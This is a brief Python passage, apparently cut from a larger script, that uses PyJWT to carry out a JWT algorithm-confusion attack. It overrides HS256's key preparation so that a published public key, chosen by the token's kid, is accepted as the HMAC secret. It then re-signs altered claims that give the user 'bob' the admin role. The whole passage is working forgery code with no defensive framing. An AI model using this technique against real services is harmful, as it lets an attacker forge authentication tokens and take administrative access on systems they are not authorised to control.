# jwt.encode with its own algorithm object that takes any key
from jwt.algorithms import HMACAlgorithm


class AnyKey(HMACAlgorithm):
    def prepare_key(self, key):
        return key


jws = jwt.PyJWS()
jws.unregister_algorithm("HS256")
jws.register_algorithm("HS256", AnyKey(AnyKey.SHA256))
payload = json.loads(claims)
payload.update(roles=["admin"], sub="bob")
forged = jws.encode(
    json.dumps(payload).encode(),
    pem_of(mine.find_key(published, header["kid"])),
    "HS256",
    {"kid": header["kid"]},
)
